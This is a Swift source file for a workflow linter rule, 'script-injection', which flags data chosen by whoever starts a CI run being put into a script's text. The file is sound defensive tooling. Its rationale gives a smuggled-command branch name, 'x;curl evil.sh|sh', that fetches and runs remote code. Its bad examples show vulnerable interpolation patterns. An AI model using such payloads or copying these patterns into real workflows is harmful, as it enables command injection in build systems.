// SPDX-License-Identifier: Apache-2.0
import Diagnostics
import SourceText
import WorkflowModel

/// Reports data of strangers that becomes part of a script.
package enum ScriptInjection: WorkflowRule {
  /// What is said of the rule.
  package static let metadata = RuleMetadata(
    "WF603", "script-injection", .security, .error, fix: .safe,
    summary: "Data that whoever starts the run chooses becomes part of a script.",
    rationale: """
      An expression in `run` is put into the script's text before the script is read: a branch called `x;curl evil.sh|sh` runs as \
      a command. Hand the data over in `env` and read the variable, which stays data whatever it holds. The data is followed \
      through inputs, variables, loops and outputs; numbers, booleans, inputs with `options` or a narrow `pattern`, and branches \
      that the trigger lists by name are harmless.
      """,
    bad: [
      RuleExample(
        """
        schema: wflint/v1
        name: api
        triggers: [{type: git_push}]
        steps:
          - id: a
            type: script
            run: |
              echo "building ${{ «trigger.branch» }}"
              make build BRANCH='${{ «trigger.branch» }}' VERSION=${{ run.number }}

        """),
      RuleExample(
        """
        schema: wflint/v1
        name: api
        inputs: {version: {type: string}}
        triggers:
          - {type: webhook, auth: {scheme: bearer, secret: HOOK}, inputs: {version: body.version}}
        steps:
          - {id: a, type: script, run: "./deploy.sh ${{ «inputs.version» }}"}

        """),
      RuleExample(
        """
        schema: wflint/v1
        name: api
        env: {MESSAGE: "${{ trigger.commit.message }}"}
        triggers: [{type: git_push, branches: [main]}]
        steps:
          - {id: a, type: script, run: "git tag -m \\"${{ «env.MESSAGE» }}\\" v1"}

        """),
      RuleExample(
        """
        schema: wflint/v1
        name: api
        triggers: [{type: git_push, branches: ["release/*"]}]
        steps:
          - id: name
            type: script
            env: {BRANCH: "${{ trigger.branch }}"}
            run: echo "slug=$BRANCH"
            outputs: {slug: string}
          - id: a
            type: script
            shell: python
            run: |
              print("deploying ${{ «steps.name.outputs.slug» }}")

        """),
      RuleExample(
        """
        schema: wflint/v1
        name: api
        triggers: [{type: git_push, branches: [main]}]
        steps:
          - id: each
            type: loop
            over: trigger.paths
            max: 20
            steps:
              - {id: a, type: script, shell: node, run: "console.log(`${{ «item» }}`, '${{ «item» }}')"}

        """),
    ],
    good: [
      RuleExample(
        """
        schema: wflint/v1
        name: api
        triggers: [{type: git_push}]
        steps:
          - id: a
            type: script
            env: {BRANCH: "${{ trigger.branch }}"}
            run: echo "building $BRANCH, ${{ trigger.branch == 'main' ? 'for all' : 'for us' }}"

        """),
      RuleExample(
        """
        schema: wflint/v1
        name: api
        inputs: {version: {type: integer}, region: {options: [eu, us]}}
        triggers:
          - {type: git_push, branches: [main, next]}
          - {type: webhook, auth: {scheme: bearer, secret: HOOK}, inputs: {version: body.version, region: body.region}}
        steps:
          - {id: a, type: script, run: "./deploy.sh ${{ inputs.version }} ${{ inputs.region }} ${{ trigger.branch }}"}

        """),
    ])

  /// Reports each such expression of each script, with a fix for all of a script at once.
  package static func check(_ context: WorkflowContext, _ report: inout Report) {
    let scripts = context.workflow.steps.indices.filter { index in
      if case .script(let action) = context.workflow.steps[index].action {
        action.run?.value.isDynamic ?? false
      } else {
        false
      }
    }
    guard !scripts.isEmpty else { return }
    let flow = DataFlow(.hostile, in: context)
    for index in scripts {
      let step = context.workflow.steps[index]
      guard case .script(let action) = step.action, let run = action.run else { continue }
      var found: [(expression: Int, origin: DataFlow.Origin)] = []
      for expression in run.value.expressions {
        if let origin = flow.origin(ofExpression: expression) { found.append((expression, origin)) }
      }
      guard !found.isEmpty else { continue }
      let fix = ScriptInjectionFix(step, moving: found.map(\.expression), in: context)?.fix()
      for (expression, origin) in found {
        let site = context.workflow.expressions[expression]
        report.add(
          site.range,
          "`\(site.text)` brings \(origin.what) into the script's text, where it may be read as commands",
          help: "Hand it over in the step's `env`, and read the variable.", related: origin.stations,
          fixes: fix.flatMap { $0.moved.contains(expression) ? [$0.fix] : nil } ?? [])
      }
    }
  }
}
